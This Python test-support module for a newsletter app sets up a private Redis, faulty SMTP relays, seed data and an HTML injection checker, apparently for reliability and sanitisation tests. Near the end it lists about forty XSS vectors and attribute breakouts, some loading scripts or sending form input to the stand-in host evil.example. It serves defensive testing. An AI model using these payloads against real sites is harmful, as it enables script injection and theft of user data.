"""Helpers for the reliability scenarios: a private Redis, hostile relays, seeding, HTML checks.

Everything here stays on loopback. The private Redis is a `redis-server` process of the
test's own, on a free port, so a scenario may kill, restart or flush it without touching
the Redis other tests share.
"""

from __future__ import annotations

import asyncio
import csv
import os
import re
import signal
import subprocess
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import redis
from sqlalchemy import func, select, update

from gazette.articles.service import ArticleInput, upsert_article
from gazette.digests.planning import plan_issue
from gazette.newsletters.service import create_newsletter
from gazette.runtime import Runtime
from gazette.store.db import make_engine, make_session_factory, transaction
from gazette.store.models import Delivery, DeliveryStatus, Issue, IssueStatus, Subscriber, utcnow
from gazette.subscribers.csv_import import import_csv
from gazette.subscribers.service import Origin
from tests.support.messages import fed
from tests.support.smtp import Received, RecordingHandler, free_port, header_block
from tests.support.workers import wait_for

SLUG = "weekly"
LANGUAGES = ("en", "uk", "ja")


# -- a Redis of the test's own ---------------------------------------------------------


class PrivateRedis:
    """`redis-server` on 127.0.0.1 and a free port, without persistence.

    Killed with SIGKILL and started again on the same port, it comes back empty, as a
    restarted production Redis without persistence would.
    """

    def __init__(self, folder: Path) -> None:
        self.port = free_port()
        self._log_path = folder / f"redis-{self.port}.log"
        self.process: subprocess.Popen[bytes] | None = None
        self.starts = 0

    @property
    def url(self) -> str:
        return f"redis://127.0.0.1:{self.port}/0"

    def client(self) -> redis.Redis:
        return redis.Redis(host="127.0.0.1", port=self.port, socket_timeout=5)

    def start(self) -> None:
        assert self.process is None or self.process.poll() is not None
        with self._log_path.open("ab") as log:
            self.process = subprocess.Popen(
                [
                    "redis-server", "--port", str(self.port), "--bind", "127.0.0.1",
                    "--save", "", "--appendonly", "no",
                ],
                stdout=log,
                stderr=subprocess.STDOUT,
                start_new_session=True,
            )  # fmt: skip
        self.starts += 1
        wait_for(self.answers, 20, f"the private Redis on port {self.port}")

    def answers(self) -> bool:
        try:
            with self.client() as client:
                return bool(client.ping())
        except redis.RedisError:
            return False

    def kill(self) -> None:
        """SIGKILL the server, as a crash or an OOM kill would."""
        assert self.process is not None
        os.kill(self.process.pid, signal.SIGKILL)
        self.process.wait(timeout=10)

    def stop(self) -> None:
        if self.process is not None and self.process.poll() is None:
            self.process.terminate()
            try:
                self.process.wait(timeout=10)
            except subprocess.TimeoutExpired:
                self.kill()


@contextmanager
def private_redis(folder: Path) -> Iterator[PrivateRedis]:
    server = PrivateRedis(folder)
    server.start()
    try:
        yield server
    finally:
        server.stop()


# -- hostile relays ----------------------------------------------------------------------


@dataclass
class SlowHandler(RecordingHandler):
    """Accepts every message after ``delay`` seconds and keeps only its header block.

    The delay is awaited, so a slow relay still serves its other sessions meanwhile.
    """

    delay: float = 0.0

    async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:
        if self.delay:
            await asyncio.sleep(self.delay)
        return await super().handle_DATA(server, session, envelope)

    def keep(self, received: Received) -> None:
        """Keep the header block only."""
        super().keep(header_block(received))


@dataclass
class DropAfterDotHandler(RecordingHandler):
    """Stores each message; for the first ``drops`` it then hangs up instead of replying.

    The client saw its final dot go out and never hears back, so it cannot know the
    message was taken: it must send it again, which is a duplicate at the relay.
    """

    drops: int = 0
    dropped: list[Received] = field(default_factory=list)

    async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:
        received = Received(envelope.mail_from, list(envelope.rcpt_tos), envelope.original_content)
        with self.lock:
            self.data_count += 1
            count = self.data_count
            self.messages.append(received)
            if count <= self.drops:
                self.dropped.append(received)
        if count > self.drops:
            return "250 Message accepted"
        server.transport.close()
        # Closing makes aiosmtpd cancel this session's coroutine; no reply ever goes out.
        await asyncio.sleep(30)
        return "451 never sent"  # pragma: no cover - cancelled above


def duplicates(counts: Counter[str]) -> int:
    """Copies beyond the first, summed over recipients."""
    return sum(n - 1 for n in counts.values() if n > 1)


# -- an installation ---------------------------------------------------------------------


def address(n: int) -> str:
    return f"reader{n}@example.org"


def add_articles(
    runtime: Runtime,
    count: int,
    *,
    start: int = 0,
    when: datetime | None = None,
    age: timedelta = timedelta(hours=1),
) -> None:
    """``count`` plain articles (numbered from ``start``) published ``age`` before ``when``."""
    moment = when or utcnow()
    with transaction(runtime.sessions) as session:
        for offset, n in enumerate(range(start, start + count)):
            upsert_article(
                session,
                ArticleInput(
                    title=f"Article {n}",
                    url=f"https://example.org/a/{n}",
                    published_at=moment - age - timedelta(seconds=offset),
                    summary="<p>Summary.</p>",
                ),
            )


def seed(runtime: Runtime, tmp_path: Path, readers: int) -> int:
    """A newsletter, three articles and ``readers`` confirmed readers; plan its issue."""
    now = utcnow()
    with transaction(runtime.sessions) as session:
        newsletter_id = create_newsletter(session, SLUG, "The Weekly")
    add_articles(runtime, 3, when=now)
    path = tmp_path / "readers.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["email", "name", "language"])
        writer.writerows(
            [address(n), f"Reader {n}", LANGUAGES[n % len(LANGUAGES)]] for n in range(readers)
        )
    report = import_csv(runtime.sessions, path, SLUG, Origin("import"), confirmed=True)
    assert (report.added, report.rejected) == (readers, [])
    with transaction(runtime.sessions) as session:
        plan = plan_issue(session, newsletter_id, now + timedelta(seconds=1))
    assert (plan.status, plan.deliveries) == (IssueStatus.PLANNED, readers)
    return plan.issue_id


def ledger(runtime: Runtime, issue_id: int | None = None) -> Counter[DeliveryStatus]:
    """Delivery rows counted by status (of one issue, or of all)."""
    query = select(Delivery.status, func.count()).group_by(Delivery.status)
    if issue_id is not None:
        query = query.where(Delivery.issue_id == issue_id)
    with runtime.sessions() as session:
        return Counter(dict(session.execute(query).all()))


def wait_a_third_sent(runtime: Runtime, issue_id: int, readers: int, timeout: float) -> None:
    """Wait until a third of the issue's ``readers`` rows are sent (a worker is then killed)."""
    wait_for(
        lambda: ledger(runtime, issue_id)[DeliveryStatus.SENT] >= readers // 3,
        timeout,
        "a third of the issue to be sent",
    )


def being_sent(runtime: Runtime, issue_id: int) -> set[str]:
    """The addresses whose rows of the issue are in flight (SENDING) right now."""
    with runtime.sessions() as session:
        return set(
            session.scalars(
                select(Subscriber.email)
                .join(Delivery, Delivery.subscriber_id == Subscriber.id)
                .where(Delivery.issue_id == issue_id, Delivery.status == DeliveryStatus.SENDING)
            )
        )


def load_issue(runtime: Runtime, issue_id: int) -> Issue:
    with runtime.sessions() as session:
        return session.get_one(Issue, issue_id)


def issue_sent(runtime: Runtime, issue_id: int) -> bool:
    return load_issue(runtime, issue_id).status == IssueStatus.SENT


def wait_sent(runtime: Runtime, issue_id: int, timeout: float, what: str) -> None:
    """Wait until the issue is marked sent; fail naming ``what`` after ``timeout`` seconds."""
    wait_for(lambda: issue_sent(runtime, issue_id), timeout, what)


def wait_ready(log: Path, timeout: float = 60) -> None:
    """Wait until the worker logging to ``log`` says it is ready to take tasks."""
    wait_for(
        lambda: log.exists() and b" ready." in log.read_bytes(), timeout, f"the worker ({log.name})"
    )


def sweep_until(
    broker_url: str, queue: str, done: Callable[[], bool], timeout: float, what: str
) -> None:
    """Enqueue the sweep, as beat does, until ``done``; only when the queue has drained.

    Each sweep re-enqueues every pending range, so sweeping into a full queue would only
    pile up copies of tasks already waiting there.
    """
    from worker.tasks import sweep

    last = -1.0
    with redis.Redis.from_url(broker_url, socket_timeout=5) as broker:

        def settled() -> bool:
            nonlocal last
            if done():
                return True
            if time.monotonic() - last >= 2 and broker.llen(queue) == 0:
                sweep.delay()
                last = time.monotonic()
            return False

        wait_for(settled, timeout, what)


# -- two schedulers in two processes -----------------------------------------------------


def plan_ticks(
    name: str,
    database_url: str,
    newsletter_id: int,
    ticks: list[str],
    barrier: Any,
    results: Any,
) -> None:
    """A scheduler process: at each tick (ISO time), wait for the other, then plan.

    Puts ``(name, [(issue_id, created, deliveries, period_key), ...])`` on ``results``.
    """
    engine = make_engine(database_url)
    factory = make_session_factory(engine)
    planned: list[tuple[int, bool, int, str]] = []
    try:
        for tick in ticks:
            barrier.wait(timeout=60)
            with transaction(factory) as session:
                result = plan_issue(session, newsletter_id, datetime.fromisoformat(tick))
                key = session.get_one(Issue, result.issue_id).period_key
            planned.append((result.issue_id, result.created, result.deliveries, key))
    finally:
        engine.dispose()
        results.put((name, planned))


# -- HTML as a browser or a mail client reads it -----------------------------------------


class Elements(HTMLParser):
    """Every element of a document with its attributes (entities decoded), and its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {k: v or "" for k, v in attrs}))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse_html(document: str) -> Elements:
    """The elements and text of ``document``."""
    return fed(Elements(), document)


URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "xlink:href", "srcdoc", "content")
BAD_SCHEMES = ("javascript:", "vbscript:", "livescript:", "data:")


def injected(document: str, baseline: str, allowed: frozenset[str] = frozenset()) -> list[str]:
    """What ``document`` has that the same page with harmless input does not, and should not.

    Element counts are compared tag by tag against the baseline: a page's own <form>,
    <meta> or <style> are fine, one more is not, unless its tag is in ``allowed`` (the
    sanitised summary HTML of a digest). Any on* attribute and any script URL is
    reported wherever it is.
    """
    found = parse_html(document)
    expected = Counter(tag for tag, _ in parse_html(baseline).elements)
    actual = Counter(tag for tag, _ in found.elements)
    problems = [
        f"{actual[tag] - expected[tag]} extra <{tag}>"
        for tag in sorted(actual)
        if tag not in allowed and actual[tag] > expected[tag]
    ]
    for tag, attributes in found.elements:
        for name, value in attributes.items():
            if name.startswith("on"):
                problems.append(f"<{tag} {name}=...>")
            if name in URL_ATTRIBUTES:
                squashed = re.sub(r"[\x00-\x20]", "", value).lower()
                if name == "content":
                    squashed = squashed.split("url=", 1)[-1]
                if squashed.startswith(BAD_SCHEMES):
                    problems.append(f"<{tag} {name}={value[:40]!r}>")
    return problems


# -- XSS payloads ------------------------------------------------------------------------

_VECTORS = [
    "<script>alert({n})</script>", "<SCRIPT SRC=https://evil.example/{n}.js></SCRIPT>",
    "<img src=x onerror=alert({n})>", "<svg onload=alert({n})>", "<svg><script>alert({n})</script>",
    "<iframe src=javascript:alert({n})></iframe>", "<body onload=alert({n})>",
    "<object data=javascript:alert({n})>", "<embed src=javascript:alert({n})>",
    '<a href="javascript:alert({n})">x</a>', "<a href=JaVaScRiPt:alert({n})>y</a>",
    "<math><mtext><script>alert({n})</script>", "<details open ontoggle=alert({n})>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert({n})">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/{n}">',
    "<form action=https://evil.example/{n}><input name=p></form>",
    "<base href=//evil.example/{n}/>", "<style>@import 'https://evil.example/{n}.css';</style>",
    "<input autofocus onfocus=alert({n})>",
    "<video><source onerror=alert({n})></video>", "<marquee onstart=alert({n})>m</marquee>",
    "<scr<script>ipt>alert({n})</scr</script>ipt>", "<<script>script>alert({n})<</script>/script>",
    "<scr\x00ipt>alert({n})</scr\x00ipt>", "<img\nsrc=x\nonerror=alert({n})>",
    "<img src=x onerror\x0c=alert({n})>", "<template><script>alert({n})</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert({n})>\">",
    "&lt;script&gt;alert({n})&lt;/script&gt;", "&#60;script&#62;alert({n})&#60;/script&#62;",
    "＜script＞alert({n})＜/script＞", "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e",
    "%3Cscript%3Ealert({n})%3C/script%3E", "<!--<script>alert({n})</script>-->",
    "]]><script>alert({n})</script>", "{{{{ {n}*7 }}}}{{% raw %}}", "%(name)s %s %d {n}",
    "@@GAZETTE:GREETING@@ {n}", "@@GAZETTE:UNSUBSCRIBE_URL@@ {n}", "javascript:alert({n})",
]  # fmt: skip
_BREAKOUTS = [
    "{v}", '"><{tag}>{v}', "'><{tag}>{v}", '" onmouseover="alert({n})" x="{v}',
    "</title></textarea></style>{v}",
]  # fmt: skip


def xss_payloads(count: int = 200) -> list[str]:
    """``count`` distinct hostile strings: tags, handlers, script URLs, attribute breakouts.

    Each fits in a 200-character name field; a number in each tells them apart.
    """
    payloads: list[str] = []
    for outer, breakout in enumerate(_BREAKOUTS):
        for inner, vector in enumerate(_VECTORS):
            n = outer * len(_VECTORS) + inner
            tag = ("b", "i", "svg/onload=alert(0)", "img src=x onerror=alert(0)")[n % 4]
            payload = breakout.format(v=vector.format(n=n), tag=tag, n=n)
            payloads.append(payload[:200])
    unique = list(dict.fromkeys(payloads))
    assert len(unique) >= count, len(unique)
    return unique[:count]


def scenario(name: str, database_url: str) -> str:
    """The scenario's name in the report, with the database it ran on."""
    return f"{name} ({'PostgreSQL' if database_url.startswith('postgresql') else 'SQLite'})"


def backoff_over(runtime: Runtime, where: Callable[[], object] | None = None) -> int:
    """Move every pending row's next attempt into the past, as if the backoff ran out."""
    with transaction(runtime.sessions) as session:
        statement = update(Delivery).where(Delivery.status == DeliveryStatus.PENDING)
        if where is not None:
            statement = statement.where(where())  # type: ignore[arg-type]
        result = session.execute(statement.values(next_attempt_at=utcnow() - timedelta(seconds=1)))
        return int(result.rowcount)  # type: ignore[attr-defined]
